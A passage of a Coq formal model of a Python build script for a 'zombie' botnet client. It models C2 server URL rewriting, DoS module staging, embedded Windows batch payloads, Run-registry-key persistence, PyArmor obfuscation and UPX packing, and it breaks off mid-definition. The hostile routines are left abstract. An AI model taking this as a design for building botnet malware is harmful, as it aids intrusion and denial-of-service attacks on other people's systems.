(** * A shallow embedding of the build orchestrator [build.py]

    The orchestrator is a sequential pipeline of stage methods on one
    [ZombieBuilder] object.  Every stage talks to the file system and to
    external command-line tools, and reports success as a boolean after
    catching whatever was raised inside it.

    The embedding follows the code stage by stage:
    - paths are lists of segments, the file system is a finite map from
      paths to nodes (a regular file with its text, or a directory);
    - a stage is a computation in a state-and-exception monad over a
      [world] (file system, the two mutable attributes of the builder, and
      the trace of log lines and subprocess calls);
    - the external tools, the clock, the random identifiers and the
      library codecs whose output the orchestrator only passes along are
      fields of a [host] record. *)

From Stdlib Require Import String Ascii List ZArith Lia Bool.
From stdpp Require Import base option list strings pretty gmap.

Import ListNotations.
Local Open Scope string_scope.
Local Open Scope list_scope.

(** ** Paths and the file system *)

Definition path := list string.

Inductive node :=
| File (content : string)
| Dir.

Abbreviation filesystem := (gmap path node).

Definition join (d : path) (name : string) : path := d ++ [name].

Definition basename (p : path) : string := List.last p EmptyString.

Definition dirname (p : path) : path := removelast p.

Definition exists_ (fs : filesystem) (p : path) : bool :=
  match fs !! p with Some _ => true | None => false end.

Definition isfile (fs : filesystem) (p : path) : bool :=
  match fs !! p with Some (File _) => true | _ => false end.

Definition isdir (fs : filesystem) (p : path) : bool :=
  match fs !! p with Some Dir => true | _ => false end.

(** [os.makedirs(p, exist_ok=True)]: every prefix of [p] becomes a
    directory; a regular file on the way is an error. *)
Fixpoint makedirs_from (fs : filesystem) (pre rest : path) : option filesystem :=
  match fs !! pre with
  | Some (File _) => None
  | _ =>
      let fs' := <[pre := Dir]> fs in
      match rest with
      | [] => Some fs'
      | s :: rest' => makedirs_from fs' (join pre s) rest'
      end
  end.

Definition makedirs (fs : filesystem) (p : path) : option filesystem :=
  makedirs_from fs [] p.

(** [open(p, 'r').read()]. *)
Definition read_file (fs : filesystem) (p : path) : option string :=
  match fs !! p with Some (File c) => Some c | _ => None end.

(** [open(p, 'w').write(c)]: the parent must be a directory and [p] must
    not be one. *)
Definition write_file (fs : filesystem) (p : path) (c : string) : option filesystem :=
  match p with
  | [] => None
  | _ =>
      if isdir fs (dirname p) && negb (isdir fs p)
      then Some (<[p := File c]> fs) else None
  end.

(** [shutil.copy2(src, dst)]: a directory as destination receives the file
    under the source's name; copying a file onto itself is an error. *)
Definition copy2 (fs : filesystem) (src dst : path) : option filesystem :=
  match fs !! src with
  | Some (File c) =>
      let target := if isdir fs dst then join dst (basename src) else dst in
      if bool_decide (src = target) then None else write_file fs target c
  | _ => None
  end.

(** [shutil.rmtree(p, ignore_errors=True)]: a directory goes with all
    below it; on anything else the error is ignored. *)
Definition rmtree (fs : filesystem) (p : path) : filesystem :=
  match fs !! p with
  | Some Dir => filter (fun kv => ¬ p `prefix_of` kv.1) fs
  | _ => fs
  end.

(** [os.remove(p)]. *)
Definition remove (fs : filesystem) (p : path) : option filesystem :=
  match fs !! p with Some (File _) => Some (delete p fs) | _ => None end.

Definition child_name (d : path) (kv : path * node) : option string :=
  match List.rev kv.1 with
  | name :: rd => if bool_decide (List.rev rd = d) then Some name else None
  | [] => None
  end.

(** [os.listdir(d)]: the names directly below a directory. *)
Definition listdir (fs : filesystem) (d : path) : option (list string) :=
  match fs !! d with
  | Some Dir => Some (omap (child_name d) (map_to_list fs))
  | _ => None
  end.

Definition fs_demo : filesystem :=
  <[ ["w"; "build"; "a"] := File "x" ]>
  (<[ ["w"; "build"] := Dir ]> (<[ ["w"] := Dir ]> (<[ [] := Dir ]> ∅))).

(** ** Exceptions, the world and the monad of stage code *)

(** The exception classes the code tells apart: the two named in the
    [except] clauses of the dependency check, [re.error], and everything
    else. *)
Inductive exn :=
| CalledProcessError
| FileNotFoundError
| ReError
| OtherError.

Inductive result (A : Type) :=
| Val (a : A)
| Raise (e : exn).
Arguments Val {A} a.
Arguments Raise {A} e.

Inductive stage :=
| CheckDependencies
| PrepareEnvironment
| ModifySource
| Obfuscate
| Compile
| GenerateMetadata
| CleanUp.

Inductive level := Info | Warning | Error.

(** A subprocess call made by the builder. *)
Inductive tool_call :=
| PyarmorVersion
| PyinstallerVersion
| UpxVersion
| PyarmorObfuscate (args : list string)
| PyinstallerBuild (args : list string).

(** What is observable of a run besides the file system: the opening log
    line of a stage, any other log line at level info or above, and
    subprocess calls.  A log line is recorded by its fixed text, without
    the values formatted into it; the stack trace that a handler logs
    right after its error line belongs to that line's event.
    ([logger.debug] lines are not recorded.) *)
Inductive event :=
| Enter (s : stage)
| Log (l : level) (msg : string)
| Run (c : tool_call).

(** The mutable part: the file system, the two attributes of the builder
    that stages assign ([use_upx], [payload_data]) and the trace. *)
Record world := World {
  fs : filesystem;
  use_upx : bool;
  payload_data : option string;
  trace : list event
}.

Definition set_fs (f : filesystem) (w : world) : world :=
  World f (use_upx w) (payload_data w) (trace w).
Definition set_use_upx (u : bool) (w : world) : world :=
  World (fs w) u (payload_data w) (trace w).
Definition set_payload_data (d : option string) (w : world) : world :=
  World (fs w) (use_upx w) d (trace w).
Definition emit (e : event) (w : world) : world :=
  World (fs w) (use_upx w) (payload_data w) (trace w ++ [e]).

Definition M (A : Type) : Type := world -> result A * world.

Definition ret {A} (a : A) : M A := fun w => (Val a, w).

Definition raise {A} (e : exn) : M A := fun w => (Raise e, w).

Definition bind {A B} (m : M A) (k : A -> M B) : M B :=
  fun w =>
    match m w with
    | (Val a, w') => k a w'
    | (Raise e, w') => (Raise e, w')
    end.

Declare Scope stage_scope.
Delimit Scope stage_scope with stage.
Notation "x <- m ;; k" := (bind m (fun x => k))
  (at level 100, m at next level, right associativity) : stage_scope.
Notation "m ;; k" := (bind m (fun _ => k))
  (at level 100, right associativity) : stage_scope.
Local Open Scope stage_scope.

(** [try: body except Exception as e: handler]. *)
Definition try_except {A} (body : M A) (handler : exn -> M A) : M A :=
  fun w =>
    match body w with
    | (Val a, w') => (Val a, w')
    | (Raise e, w') => handler e w'
    end.

(** [try: body except (C1, C2): handler]: other classes propagate. *)
Definition try_except_only {A} (sel : exn -> bool) (body : M A) (handler : M A) : M A :=
  fun w =>
    match body w with
    | (Val a, w') => (Val a, w')
    | (Raise e, w') => if sel e then handler w' else (Raise e, w')
    end.

(** A check that returns [False] from the stage when it fails: the rest of
    the stage runs only after [True]. *)
Definition and_then (check rest : M bool) : M bool :=
  ok <- check ;; if ok : bool then rest else ret false.
Notation "'require' c ;; k" := (and_then c k)
  (at level 100, c at next level, right associativity) : stage_scope.

Definition log (l : level) (msg : string) : M unit :=
  fun w => (Val tt, emit (Log l msg) w).

Definition enter (s : stage) : M unit :=
  fun w => (Val tt, emit (Enter s) w).

Definition get {A} (f : world -> A) : M A := fun w => (Val (f w), w).

(** Assignment to an attribute of the builder. *)
Definition update (f : world -> world) : M unit := fun w => (Val tt, f w).

(** Lifting of a file-system operation that may fail with an [OSError]. *)
Definition fs_update (op : filesystem -> option filesystem) : M unit :=
  fun w =>
    match op (fs w) with
    | Some f => (Val tt, set_fs f w)
    | None => (Raise OtherError, w)
    end.

Definition fs_query {A} (q : filesystem -> option A) : M A :=
  fun w =>
    match q (fs w) with
    | Some a => (Val a, w)
    | None => (Raise OtherError, w)
    end.

Definition fs_test (q : filesystem -> bool) : M bool :=
  fun w => (Val (q (fs w)), w).

Definition fs_total (op : filesystem -> filesystem) : M unit :=
  fun w => (Val tt, set_fs (op (fs w)) w).

(** [for x in xs: body(x)]. *)
Fixpoint for_each {A} (xs : list A) (body : A -> M unit) : M unit :=
  match xs with
  | [] => ret tt
  | x :: xs' => body x ;; for_each xs' body
  end.

(** ** Text helpers

    Python text is modelled as a [string] of 8-bit characters, read as the
    UTF-8 bytes of the text: [str.encode('utf-8')] and text-mode file
    access are the identity on it. *)

Definition dquote : string := String (ascii_of_nat 34) EmptyString.
Definition backslash : ascii := ascii_of_nat 92.
Definition newline : ascii := ascii_of_nat 10.
Definition nl : string := String newline EmptyString.

(** [pat in s]. *)
Fixpoint occurs (pat s : string) : bool :=
  String.prefix pat s ||
  match s with
  | EmptyString => false
  | String _ s' => occurs pat s'
  end.

(** Replacement of every non-overlapping occurrence of a non-empty literal
    [pat], leftmost first; [skip] counts the characters of a match still
    to be dropped. *)
Fixpoint replace_from (pat repl : string) (skip : nat) (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' =>
      match skip with
      | S k => replace_from pat repl k s'
      | O =>
          if String.prefix pat s
          then repl +:+ replace_from pat repl (String.length pat - 1) s'
          else String c (replace_from pat repl O s')
      end
  end.

Definition replace_all (pat repl s : string) : string := replace_from pat repl 0 s.

(** *** Replacement templates of [re.sub]

    [re.sub(pattern, repl, text)] compiles [repl] before it searches: a
    template with a backslash is parsed, and a malformed one raises
    [re.error] whether or not the pattern occurs.  The parser below is the
    character automaton of [parse_template]. *)

Inductive piece :=
| Lit (c : ascii)
| Grp (n : nat).

Inductive tstate :=
| TPlain
| TEsc
| TG
| TName (acc : string)
| TOct0 (v k : nat)
| TDig (d : nat)
| TDig2 (d1 d2 : nat).

Definition digit_val (c : ascii) : option nat :=
  let n := nat_of_ascii c in
  if (48 <=? n)%nat && (n <=? 57)%nat then Some (n - 48)%nat else None.

Definition octdigit_val (c : ascii) : option nat :=
  match digit_val c with
  | Some d => if (d <? 8)%nat then Some d else None
  | None => None
  end.

Definition is_ascii_letter (c : ascii) : bool :=
  let n := nat_of_ascii c in
  ((65 <=? n)%nat && (n <=? 90)%nat) || ((97 <=? n)%nat && (n <=? 122)%nat).

(** The table [ESCAPES] of the template parser: a, b, f, n, r, t, v and
    the backslash itself. *)
Definition escape_char (c : ascii) : option ascii :=
  match nat_of_ascii c with
  | 97 => Some (ascii_of_nat 7)
  | 98 => Some (ascii_of_nat 8)
  | 102 => Some (ascii_of_nat 12)
  | 110 => Some (ascii_of_nat 10)
  | 114 => Some (ascii_of_nat 13)
  | 116 => Some (ascii_of_nat 9)
  | 118 => Some (ascii_of_nat 11)
  | 92 => Some backslash
  | _ => None
  end%nat.

Section Template.
(** [strict]: unknown escapes of ASCII letters are errors (Python 3.7
    and later; 3.6 keeps them with a warning).  [ngroups]: the number of
    groups of the pattern.  [group_index]: the index that a name between
    [\g<] and [>] denotes, if any. *)
Variable strict : bool.
Variable ngroups : nat.
Variable group_index : string -> option nat.

Definition group_ref (n : nat) : option (list piece) :=
  if (n <=? ngroups)%nat then Some [Grp n] else None.

Definition plain_step (c : ascii) : tstate * list piece :=
  if Ascii.eqb c backslash then (TEsc, []) else (TPlain, [Lit c]).

Definition after (ps : option (list piece)) (c : ascii) : option (tstate * list piece) :=
  match ps with
  | Some l => let '(st, l') := plain_step c in Some (st, l ++ l')
  | None => None
  end.

Definition tstep (st : tstate) (c : ascii) : option (tstate * list piece) :=
  match st with
  | TPlain => Some (plain_step c)
  | TEsc =>
      if Ascii.eqb c "g" then Some (TG, [])
      else if Ascii.eqb c "0" then Some (TOct0 0 1, [])
      else match digit_val c with
           | Some d => Some (TDig d, [])
           | None =>
               match escape_char c with
               | Some x => Some (TPlain, [Lit x])
               | None =>
                   if is_ascii_letter c && strict then None
                   else Some (TPlain, [Lit backslash; Lit c])
               end
           end
  | TG => if Ascii.eqb c "<" then Some (TName EmptyString, []) else None
  | TName acc =>
      if Ascii.eqb c ">" then
        match acc with
        | EmptyString => None
        | _ =>
            match group_index acc with
            | Some i => match group_ref i with Some l => Some (TPlain, l) | None => None end
            | None => None
            end
        end
      else Some (TName (acc +:+ String c EmptyString), [])
  | TOct0 v k =>
      match octdigit_val c with
      | Some o =>
          if (k <? 2)%nat then Some (TOct0 (v * 8 + o) (S k), [])
          else Some (TPlain, [Lit (ascii_of_nat ((v * 8 + o) mod 256))])
      | None => after (Some [Lit (ascii_of_nat v)]) c
      end
  | TDig d =>
      match digit_val c with
      | Some e => Some (TDig2 d e, [])
      | None => after (group_ref d) c
      end
  | TDig2 d1 d2 =>
      match octdigit_val c with
      | Some o =>
          if (d1 <? 8)%nat && (d2 <? 8)%nat then
            let v := (d1 * 64 + d2 * 8 + o)%nat in
            if (255 <? v)%nat then None else Some (TPlain, [Lit (ascii_of_nat v)])
          else after (group_ref (d1 * 10 + d2)) c
      | None => after (group_ref (d1 * 10 + d2)) c
      end
  end.

Definition tfinish (st : tstate) : option (list piece) :=
  match st with
  | TPlain => Some []
  | TEsc | TG | TName _ => None
  | TOct0 v _ => Some [Lit (ascii_of_nat v)]
  | TDig d => group_ref d
  | TDig2 d1 d2 => group_ref (d1 * 10 + d2)
  end.

Fixpoint parse_from (st : tstate) (s : string) : option (list piece) :=
  match s with
  | EmptyString => tfinish st
  | String c s' =>
      match tstep st c with
      | Some (st', ps) =>
          match parse_from st' s' with
          | Some rest => Some (ps ++ rest)
          | None => None
          end
      | None => None
      end
  end.

Definition parse_template (repl : string) : option (list piece) :=
  parse_from TPlain repl.
End Template.

(** Expansion of a parsed template against the groups of one match. *)
Fixpoint expand (ps : list piece) (groups : list string) : string :=
  match ps with
  | [] => EmptyString
  | Lit c :: ps' => String c (expand ps' groups)
  | Grp n :: ps' => nth n groups EmptyString +:+ expand ps' groups
  end.

(** *** The import-line pattern

    The one pattern of the customizer that is not a literal: with
    [re.MULTILINE], a whole line containing "import", the newline that
    ends it and every newline that follows.  A text is cut at its newlines
    into segments; all but the last are lines ended by a newline. *)

Fixpoint split_lines (s : string) : list string :=
  match s with
  | EmptyString => [EmptyString]
  | String c s' =>
      if Ascii.eqb c newline then EmptyString :: split_lines s'
      else match split_lines s' with
           | l :: ls => String c l :: ls
           | [] => [String c EmptyString]
           end
  end.

Definition join_lines (ls : list string) : string := String.concat nl ls.

(** The empty segments at the head of [segs], never taking the last
    segment (it is not followed by a newline). *)
Fixpoint blank_run (segs : list string) : list string * list string :=
  match segs with
  | EmptyString :: ((_ :: _) as rest) =>
      let '(blanks, rest') := blank_run rest in (EmptyString :: blanks, rest')
  | _ => ([], segs)
  end.

(** The leftmost match: the segments before it, the matched text, and the
    segments after it. *)
Fixpoint import_match (before segs : list string) : option (list string * string * list string) :=
  match segs with
  | l :: ((_ :: _) as rest) =>
      if occurs "import" l then
        let '(blanks, rest') := blank_run rest in
        Some (before, String.concat EmptyString (map (fun x => x +:+ nl) (l :: blanks)), rest')
      else import_match (before ++ [l]) rest
  | _ => None
  end.

Definition has_import_line (s : string) : bool :=
  match import_match [] (split_lines s) with Some _ => true | None => false end.

(** [re.sub(r'(^.*import.*$\n+)', repl, s, count=1, flags=re.MULTILINE)]
    for a parsed template. *)
Definition sub_import_line (ps : list piece) (s : string) : string :=
  match import_match [] (split_lines s) with
  | Some (before, m, rest) =>
      String.concat EmptyString (map (fun x => x +:+ nl) before)
        +:+ expand ps [m; m] +:+ join_lines rest
  | None => s
  end.

(** The replacement of the import pattern: group 1, then a guarded import
    of the payload module. *)
Definition import_template : string :=
  String backslash "1try:" +:+ String backslash "n    import payload_module"
  +:+ String backslash "nexcept ImportError:" +:+ String backslash "n    pass"
  +:+ String backslash "n" +:+ String backslash "n".

(** *** Base64 and base85 (the standard alphabets of Python's [base64]) *)

Definition b64_alphabet : string :=
  "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/".

Definition b85_alphabet : string :=
  "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}~".

Fixpoint char_at (alphabet : string) (i : nat) : ascii :=
  match alphabet, i with
  | String c _, O => c
  | String _ r, S j => char_at r j
  | EmptyString, _ => "="%char
  end.

Fixpoint index_of (alphabet : string) (c : ascii) : option nat :=
  match alphabet with
  | EmptyString => None
  | String d r => if Ascii.eqb c d then Some O else option_map S (index_of r c)
  end.

Definition byte_val (c : ascii) : N := N_of_ascii c.
Definition byte_of (n : N) : ascii := ascii_of_N n.

Definition b64c (n : N) : ascii := char_at b64_alphabet (N.to_nat (n mod 64)).
Definition b64v (c : ascii) : option N := option_map N.of_nat (index_of b64_alphabet c).

Fixpoint b64encode (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String a EmptyString =>
      let n := (byte_val a * 65536)%N in
      String (b64c (n / 262144)) (String (b64c (n / 4096)) "==")
  | String a (String b EmptyString) =>
      let n := (byte_val a * 65536 + byte_val b * 256)%N in
      String (b64c (n / 262144)) (String (b64c (n / 4096)) (String (b64c (n / 64)) "="))
  | String a (String b (String c rest)) =>
      let n := (byte_val a * 65536 + byte_val b * 256 + byte_val c)%N in
      String (b64c (n / 262144)) (String (b64c (n / 4096))
        (String (b64c (n / 64)) (String (b64c n) (b64encode rest))))
  end.

(** Decoding of canonical, padded base64 text. *)
Fixpoint b64decode (s : string) : option string :=
  match s with
  | EmptyString => Some EmptyString
  | String c1 (String c2 (String c3 (String c4 rest))) =>
      match b64v c1, b64v c2 with
      | Some v1, Some v2 =>
          let hi := (v1 * 262144 + v2 * 4096)%N in
          if Ascii.eqb c3 "=" then
            if Ascii.eqb c4 "=" && String.eqb rest EmptyString
            then Some (String (byte_of (hi / 65536)) EmptyString) else None
          else
            match b64v c3 with
            | Some v3 =>
                let mid := (hi + v3 * 64)%N in
                if Ascii.eqb c4 "=" then
                  if String.eqb rest EmptyString
                  then Some (String (byte_of (mid / 65536))
                               (String (byte_of (mid / 256 mod 256)) EmptyString))
                  else None
                else
                  match b64v c4, b64decode rest with
                  | Some v4, Some tl =>
                      let n := (mid + v4)%N in
                      Some (String (byte_of (n / 65536))
                              (String (byte_of (n / 256 mod 256))
                                 (String (byte_of (n mod 256)) tl)))
                  | _, _ => None
                  end
            | None => None
            end
      | _, _ => None
      end
  | _ => None
  end.

Definition b85c (n : N) : ascii := char_at b85_alphabet (N.to_nat (n mod 85)).
Definition b85v (c : ascii) : option N := option_map N.of_nat (index_of b85_alphabet c).

Definition word32 (a b c d : ascii) : N :=
  (byte_val a * 16777216 + byte_val b * 65536 + byte_val c * 256 + byte_val d)%N.

(** The five base-85 digits of a 32-bit word, most significant first. *)
Definition b85_group (n : N) : list ascii :=
  [b85c (n / 52200625); b85c (n / 614125); b85c (n / 7225); b85c (n / 85); b85c n].

Definition zero_byte : ascii := ascii_of_nat 0.

Fixpoint string_of_list (l : list ascii) : string :=
  match l with
  | [] => EmptyString
  | c :: l' => String c (string_of_list l')
  end.

(** [base64.b85encode]: four bytes give five characters; a shorter last
    group is padded with zero bytes and loses as many characters. *)
Fixpoint b85encode (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String a EmptyString =>
      string_of_list (take 2 (b85_group (word32 a zero_byte zero_byte zero_byte)))
  | String a (String b EmptyString) =>
      string_of_list (take 3 (b85_group (word32 a b zero_byte zero_byte)))
  | String a (String b (String c EmptyString)) =>
      string_of_list (take 4 (b85_group (word32 a b c zero_byte)))
  | String a (String b (String c (String d rest))) =>
      string_of_list (b85_group (word32 a b c d)) +:+ b85encode rest
  end.

Definition b85_word (c1 c2 c3 c4 c5 : ascii) : option N :=
  match b85v c1, b85v c2, b85v c3, b85v c4, b85v c5 with
  | Some v1, Some v2, Some v3, Some v4, Some v5 =>
      let n := (v1 * 52200625 + v2 * 614125 + v3 * 7225 + v4 * 85 + v5)%N in
      if (n <=? 4294967295)%N then Some n else None
  | _, _, _, _, _ => None
  end.

Definition word_bytes (n : N) : list ascii :=
  [byte_of (n / 16777216); byte_of (n / 65536 mod 256);
   byte_of (n / 256 mod 256); byte_of (n mod 256)].

Definition tilde : ascii := "~"%char.

(** [base64.b85decode]: a shorter last group is padded with the last
    character of the alphabet and loses as many bytes. *)
Fixpoint b85decode (s : string) : option string :=
  match s with
  | EmptyString => Some EmptyString
  | String c1 EmptyString =>
      option_map (fun n => string_of_list (take 0 (word_bytes n)))
        (b85_word c1 tilde tilde tilde tilde)
  | String c1 (String c2 EmptyString) =>
      option_map (fun n => string_of_list (take 1 (word_bytes n)))
        (b85_word c1 c2 tilde tilde tilde)
  | String c1 (String c2 (String c3 EmptyString)) =>
      option_map (fun n => string_of_list (take 2 (word_bytes n)))
        (b85_word c1 c2 c3 tilde tilde)
  | String c1 (String c2 (String c3 (String c4 EmptyString))) =>
      option_map (fun n => string_of_list (take 3 (word_bytes n)))
        (b85_word c1 c2 c3 c4 tilde)
  | String c1 (String c2 (String c3 (String c4 (String c5 rest)))) =>
      match b85_word c1 c2 c3 c4 c5, b85decode rest with
      | Some n, Some tl => Some (string_of_list (word_bytes n) +:+ tl)
      | _, _ => None
      end
  end.

(** ** The builder, the host it runs on, and the texts it emits *)

Definition VERSION : string := "2.0.0".
Definition SOURCE_FILE : string := "zombie.py".
Definition DOS_MODULE_FILE : string := "dos_module.py".
Definition BUILD_DIR : string := "build".

(** JSON values of the metadata record. *)
#[warnings="-register-all"]
Inductive jvalue :=
| JStr (s : string)
| JInt (z : Z)
| JObj (fields : list (string * jvalue)).

Abbreviation metadata := (gmap string jvalue).

(** The content of the packaging descriptor written by the compilation
    stage. *)
Record descriptor := Descriptor {
  entry_script : string;
  datas : list string;
  hiddenimports : list string;
  exe_name : string;
  upx : bool;
  console : bool;
  argv_emulation : bool;
  icon : option path
}.

(** Blocks of text that the builder writes out without looking inside
    them.  Of the routine injected on windows only the registry key path
    is spelled out (see [windows_key_path]); [windows_head] and
    [windows_tail] are the text before and after it. *)
Record texts := Texts {
  windows_head : string;
  windows_tail : string;
  unix_persistence_code : string;
  payload_module_text : string -> Z -> string -> string;
  spec_text : descriptor -> string;
  json_dump : metadata -> string
}.

(** The machine and the moment of a run: interpreter version (a release,
    with integer components), platform strings, the outcome of the version
    queries, the two external tools as functions on the file system, the
    random identifier and the clock read by the stages, and the library
    functions [zlib.compress] and [int] (on a group name of a template). *)
Record host := Host {
  python_version : nat * nat * nat;
  python_version_string : string;
  system_name : string;
  system_release : string;
  machine : string;
  pyarmor_version : option exn;
  pyinstaller_version : option exn;
  upx_version : option exn;
  pyarmor_obfuscate : list string -> path -> filesystem -> option exn * filesystem;
  pyinstaller_run : list string -> path -> filesystem -> result Z * filesystem;
  uuid4_hex8 : string;
  now_isoformat : string;
  zlib_compress : string -> string;
  group_name_index : string -> option nat;
  dir_size : nat;
  emitted : texts
}.

(** The attributes that [__init__] fixes.  Optional paths are [None] when
    the attribute is [None] or the empty string (both are falsy).  Paths
    are resolved against the working directory of the run, which is
    [base_dir]. *)
Record builder := Builder {
  platform : string;
  server_url : string;
  obfuscation_level : string;
  icon_path : option path;
  payload_path : option path;
  payload_delay : Z;
  payload_technique : string;
  debug : bool;
  output_dir : path;
  build_id : string;
  build_timestamp : string;
  base_dir : path
}.

Definition version_lt (v w : nat * nat * nat) : bool :=
  let '(a, b, c) := v in
  let '(x, y, z) := w in
  (a <? x)%nat || ((a =? x)%nat && ((b <? y)%nat || ((b =? y)%nat && (c <? z)%nat))).

(** Unknown letter escapes in a replacement template are errors from
    Python 3.7 on. *)
Definition re_strict (h : host) : bool := negb (version_lt (python_version h) (3, 7, 0)%nat).


Definition _get_file_extension (b : builder) : string :=
  if String.eqb (platform b) "windows" then ".exe"
  else if String.eqb (platform b) "macos" then ".app"
  else EmptyString.

Definition build_dir (b : builder) : path := join (base_dir b) BUILD_DIR.
Definition source_file_path (b : builder) : path := join (base_dir b) SOURCE_FILE.
Definition dos_module_path (b : builder) : path := join (base_dir b) DOS_MODULE_FILE.
Definition prep_dir (b : builder) : path := join (build_dir b) "prep".
Definition obfuscate_dir (b : builder) : path := join (build_dir b) "obfuscate".
Definition compile_dir (b : builder) : path := join (build_dir b) "compile".
Definition modified_source (b : builder) : path := join (prep_dir b) (build_id b +:+ ".py").
Definition payload_module (b : builder) : path := join (prep_dir b) "payload_module.py".
Definition obfuscated_file (b : builder) : path :=
  join (obfuscate_dir b) (build_id b +:+ "_obfuscated.py").
Definition executable_name (b : builder) : string :=
  "zombie_" +:+ platform b +:+ "_" +:+ build_timestamp b +:+ _get_file_extension b.
Definition final_executable (b : builder) : path := join (output_dir b) (executable_name b).
Definition metadata_file (b : builder) : path :=
  join (output_dir b) (build_id b +:+ "_metadata.json").

(** Truth value of [self.payload_data and self.platform == 'windows']. *)
Definition has_payload (b : builder) (w : world) : bool :=
  match payload_data w with
  | Some d => negb (String.eqb d EmptyString) && String.eqb (platform b) "windows"
  | None => false
  end.

(** [subprocess.check_output] of a version query. *)
Definition check_output (c : tool_call) (outcome : option exn) : M unit :=
  fun w =>
    match outcome with
    | None => (Val tt, emit (Run c) w)
    | Some e => (Raise e, emit (Run c) w)
    end.

Definition not_installed (e : exn) : bool :=
  match e with
  | CalledProcessError | FileNotFoundError => true
  | _ => false
  end.

(** ** The stages *)

Definition _check_dependencies (h : host) (b : builder) : M bool :=
  enter CheckDependencies ;;
  try_except
    (require (if version_lt (python_version h) (3, 6, 0)%nat
              then log Error "Python 3.6+ required" ;; ret false
              else ret true) ;;
     require try_except_only not_installed
               (check_output PyarmorVersion (pyarmor_version h) ;; ret true)
               (log Error "PyArmor not found. Install with: pip install pyarmor" ;; ret false) ;;
     require try_except_only not_installed
               (check_output PyinstallerVersion (pyinstaller_version h) ;; ret true)
               (log Error "PyInstaller not found. Install with: pip install pyinstaller" ;;
                ret false) ;;
     wants_upx <- get use_upx ;;
     (if wants_upx : bool
      then try_except_only not_installed
             (check_output UpxVersion (upx_version h))
             (log Warning "UPX not found, continuing without compression" ;;
              update (set_use_upx false))
      else ret tt) ;;
     require (found <- fs_test (fun f => exists_ f (source_file_path b)) ;;
              if found : bool then ret true
              else log Error "Source file not found" ;; ret false) ;;
     require (found <- fs_test (fun f => exists_ f (dos_module_path b)) ;;
              if found : bool then ret true
              else log Error "DoS module file not found" ;; ret false) ;;
     require (match icon_path b with
              | Some p =>
                  found <- fs_test (fun f => exists_ f p) ;;
                  if found : bool then ret true
                  else log Error "Icon file not found" ;; ret false
              | None => ret true
              end) ;;
     require (match payload_path b with
              | Some p =>
                  require (found <- fs_test (fun f => exists_ f p) ;;
                           if found : bool then ret true
                           else log Error "Payload batch file not found" ;; ret false) ;;
                  require (if String.eqb (platform b) "windows" then ret true
                           else log Error
                                  "Payload batch files can only be used with Windows platform" ;;
                                ret false) ;;
                  try_except
                    (payload_content <- fs_query (fun f => read_file f p) ;;
                     update (set_payload_data (Some (b64encode payload_content))) ;;
                     ret true)
                    (fun _ => log Error "Failed to read payload file" ;; ret false)
              | None => ret true
              end) ;;
     log Info "All dependencies satisfied" ;;
     ret true)
    (fun _ => log Error "Dependency check failed" ;; ret false).

Definition _create_payload_module (h : host) (b : builder) : M bool :=
  log Info "Creating payload module..." ;;
  try_except
    (data <- get payload_data ;;
     fs_update (fun f =>
       write_file f (payload_module b)
         (payload_module_text (emitted h) (default EmptyString data)
            (payload_delay b) (payload_technique b))) ;;
     ret true)
    (fun _ => log Error "Failed to create payload module" ;; ret false).

Definition _prepare_build_environment (h : host) (b : builder) : M bool :=
  enter PrepareEnvironment ;;
  try_except
    (fs_update (fun f => makedirs f (build_dir b)) ;;
     fs_update (fun f => makedirs f (prep_dir b)) ;;
     fs_update (fun f => makedirs f (obfuscate_dir b)) ;;
     fs_update (fun f => makedirs f (compile_dir b)) ;;
     fs_update (fun f => makedirs f (output_dir b)) ;;
     fs_update (fun f => copy2 f (source_file_path b) (join (prep_dir b) SOURCE_FILE)) ;;
     fs_update (fun f => copy2 f (dos_module_path b) (join (prep_dir b) DOS_MODULE_FILE)) ;;
     fs_query (fun f => listdir f (base_dir b)) ;;
     fs_query (fun f => listdir f (prep_dir b)) ;;
     with_payload <- get (has_payload b) ;;
     (if with_payload : bool then _create_payload_module h b ;; ret tt else ret tt) ;;
     ret true)
    (fun _ => log Error "Failed to prepare build environment" ;; ret false).

(** *** Source customization *)

Definition server_pattern : string :=
  "SERVER_URL = " +:+ dquote +:+ "http://127.0.0.1:5000" +:+ dquote.

Definition zombie_id_pattern : string :=
  "ZOMBIE_ID = f" +:+ dquote +:+ "zombie_{uuid.uuid4().hex[:8]}" +:+ dquote.

Definition check_in_pattern : string := "CHECK_IN_INTERVAL = 300".
Definition poll_pattern : string := "COMMAND_POLL_INTERVAL = 30".
Definition main_pattern : string := "def main():".

(** The check-in and poll intervals chosen by obfuscation level. *)
Definition timing_intervals (level : string) : Z * Z :=
  if String.eqb level "basic" then (300, 30)%Z
  else if String.eqb level "advanced" then (1800, 120)%Z
  else (600, 60)%Z.

(** [re.sub(pat, repl, s)] for a pattern that matches one literal text:
    the template is compiled first, then every occurrence is replaced.
    [None] stands for [re.error]. *)
Definition re_sub_literal (h : host) (pat repl s : string) : option string :=
  match parse_template (re_strict h) 0 (group_name_index h) repl with
  | Some ps => Some (replace_all pat (expand ps [pat]) s)
  | None => None
  end.

Definition re_sub_import (h : host) (s : string) : option string :=
  match parse_template (re_strict h) 1 (group_name_index h) import_template with
  | Some ps => Some (sub_import_line ps s)
  | None => None
  end.

(** The registry key path inside the routine injected on windows, as the
    text of the replacement template has it: single backslashes. *)
Definition windows_key_path : string :=
  "Software" +:+ String backslash "Microsoft" +:+ String backslash "Windows"
  +:+ String backslash "CurrentVersion" +:+ String backslash "Run".

Definition windows_persistence_code (t : texts) : string :=
  windows_head t +:+ windows_key_path +:+ windows_tail t.

(** The two replacement lines for the timing constants. *)
Definition timing_lines (level : string) : string * string :=
  let '(check_in_interval, poll_interval) := timing_intervals level in
  ("CHECK_IN_INTERVAL = " +:+ pretty check_in_interval,
   "COMMAND_POLL_INTERVAL = " +:+ pretty poll_interval).

(** The text transformations of [_modify_source_code], in order, on the
    text read from the staged source; [data] is [self.payload_data]. *)
Definition customize (h : host) (b : builder) (data : option string) (source_code : string)
  : option string :=
  source_code ← re_sub_literal h server_pattern
                  ("SERVER_URL = " +:+ dquote +:+ server_url b +:+ dquote) source_code;
  let zombie_id := "zombie_" +:+ uuid4_hex8 h in
  source_code ← re_sub_literal h zombie_id_pattern
